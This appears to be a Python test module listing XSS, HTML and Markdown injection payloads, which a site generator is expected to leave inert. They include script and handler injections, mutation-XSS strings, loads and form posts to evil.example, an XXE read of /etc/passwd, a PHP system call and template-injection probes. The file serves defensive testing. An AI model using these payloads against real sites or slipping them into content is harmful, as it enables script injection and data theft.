"""Markup in texts and fields: it is shown, or left out, and never does anything."""

from __future__ import annotations

from tests.attacks.attack import INERT, Attack

# Raw HTML, most of it from the fixtures of sanitisers: elements that load, run, restyle, submit,
# or change their meaning when a browser parses them a second time.
_HTML = {
    "script": "<script>pwned=1</script>",
    "script of another origin": '<script src="https://evil.example/x.js"></script>',
    "script in capitals with a slash": "<SCRIPT/x>pwned=1</SCRIPT >",
    "script in script": "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "script as a module": '<script type="module">pwned=1</script>',
    "picture with a handler": "<img src=x onerror=pwned=1>",
    "picture with a handler behind a slash": "<img/src=x/onerror=pwned=1>",
    "picture that never ends": '<img src="x" onerror="pwned=1"',
    "picture with a handler in backticks": "<img src=`x`onerror=pwned=1>",
    "drawing": "<svg onload=pwned=1></svg>",
    "drawing with a script": "<svg><script>pwned=1</script></svg>",
    "drawing that sets a link": (
        "<svg><a><set attributeName=href to=javascript:pwned=1></set>x</a></svg>"
    ),
    "drawing with an animation": (
        "<svg><animate onbegin=pwned=1 attributeName=x dur=1s></animate></svg>"
    ),
    "drawing with foreign content": "<svg><foreignObject><iframe src=x></foreignObject></svg>",
    "formula": "<math><maction actiontype=statusline xlink:href=javascript:pwned=1>x</math>",
    "formula that is parsed twice": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">'
    ),
    "drawing that is parsed twice": '<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">',
    "noscript that is parsed twice": (
        '<noscript><p title="</noscript><img src=x onerror=pwned=1>">'
    ),
    "form around a form": (
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror="pwned=1">'
    ),
    "frame": "<iframe src=javascript:pwned=1></iframe>",
    "frame with its document": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": "<object data=javascript:pwned=1></object>",
    "embedded file": "<embed src=javascript:pwned=1>",
    "style": "<style>*{display:none}</style>",
    "style of another origin": "<style>@import 'https://evil.example/x.css'</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "link to a sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "another policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "form to another origin": (
        '<form action="https://evil.example/"><input name=q autofocus><button>Go</button></form>'
    ),
    "focus with a handler": "<input autofocus onfocus=pwned=1>",
    "details that open": "<details open ontoggle=pwned=1><summary>x</summary></details>",
    "body with a handler": "<body onload=pwned=1>",
    "film": "<video><source onerror=pwned=1></video>",
    "sound": "<audio src=x onerror=pwned=1></audio>",
    "running text": "<marquee onstart=pwned=1>x</marquee>",
    "any element with a handler": "<xss onpointerenter=pwned=1 tabindex=1>x</xss>",
    "template": "<template shadowrootmode=open><script>pwned=1</script></template>",
    "name that hides one of the document": "<a name=documentElement id=main>x</a>",
    "comment": "<!-- <script>pwned=1</script> -->",
    "comment that ends early": "<!--><script>pwned=1</script>",
    "character data": "<![CDATA[<script>pwned=1</script>]]>",
    "processing": "<?php system('id'); ?><?xml-stylesheet href='x'?>",
    "document type": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "closing everything": "</p></main></body></html><script>pwned=1</script>",
    "entities": "&lt;script&gt;pwned=1&lt;/script&gt;",
    "entities of entities": "&amp;lt;img src=x onerror=pwned=1&amp;gt;",
    "entity without its end": "&ltscript&gtpwned=1&lt/script&gt",
}
# Ways that lead through Markdown itself.
_MARKDOWN = {
    "attributes of a heading": "# x {: onclick=pwned=1 id=main style=color:red }",
    "code that ends early": "`</code><script>pwned=1</script>`",
    "language of a code block": '```"><script>pwned=1</script>\nx\n```',
    "attributes of a code block": "```{.x onclick=pwned=1}\nx\n```",
    "cell of a table": "| a |\n|---|\n| <img src=x onerror=pwned=1> |",
    "picture of another origin": "![x](https://evil.example/track.gif)",
    "picture that runs": "![x](javascript:pwned=1)",
    "picture with a title that breaks out": '![x](/a.png "\\" onerror=\\"pwned=1")',
    "alternative text that breaks out": '![x" onerror="pwned=1](/a.png)',
    "title of a link that breaks out": '[x](/profiles/ "\\" onmouseover=\\"pwned=1")',
    "HTML in the text of a link": "[<img src=x onerror=pwned=1>](/profiles/)",
    "heading as large as the page's": "# Warning from the directory: pay here",
    "abbreviation": "*[HTML]: <script>pwned=1</script>\n\nHTML",
    "HTML read as Markdown": "<div markdown=1 onclick=pwned=1>**x**</div>",
    "placeholders of the library": "\\<img src=x onerror=pwned=1\\> klzzwxh:0042 wzxhzdk:0",
}
# Out of an attribute, an element, a script or a template, in short fields.
_BREAKS = (
    '"><script>pwned=1</script>',
    "'><img src=x onerror=pwned=1>",
    '" onmouseover="pwned=1',
    "' autofocus onfocus='pwned=1",
    "</title><script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "<!--<script>",
    "]]><x>&xxe;</x>",
    "{{ 7*7 }}{% raw %}{{ site }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{page} %(name)s %s {0.__class__}",
)
_FIELDS = (
    "headline", "title", "venture", "label", "client", "word", "page title", "story title",
    "interest", "evidence", "city", "summary",
)  # fmt: skip
_SHORT = {"word": 40, "city": 60}


def _breaks() -> list[Attack]:
    """Every way out in one field, and one of them in every field, turn by turn."""
    rows = [("headline", payload) for payload in _BREAKS]
    rows += [(field, _BREAKS[index]) for index, field in enumerate(_FIELDS) if field != "headline"]
    return [
        Attack("out of its place", f"{payload} in {field}", field, payload, INERT)
        for field, payload in rows
        if len(payload) <= _SHORT.get(field, 80)
    ]


ATTACKS = (
    *(Attack("raw HTML", name, "body", text, INERT) for name, text in _HTML.items()),
    *(Attack("Markdown", name, "page", text, INERT) for name, text in _MARKDOWN.items()),
    # Without footnotes this is a link, by reference, to what stands behind the colon.
    Attack("Markdown", "footnote", "page", "x[^1]\n\n[^1]: <script>pwned=1</script>", "P047"),
    # A build follows every link and stops where one leads nowhere: for everybody.
    Attack("Markdown", "address that breaks out", "page", '[x](/a/"onmouseover="pwned=1)', "P092"),
    Attack("Markdown", "part of a page that is not there", "body", "[x](/about/#no)", "P092"),
    Attack("Markdown", "file that is not there", "story", "[x](/assets/x.js)", "P092"),
    Attack("raw HTML", "script in a brief", "brief", _HTML["script"], INERT),
    Attack("raw HTML", "script in a story", "story", _HTML["script"], INERT),
    *_breaks(),
)
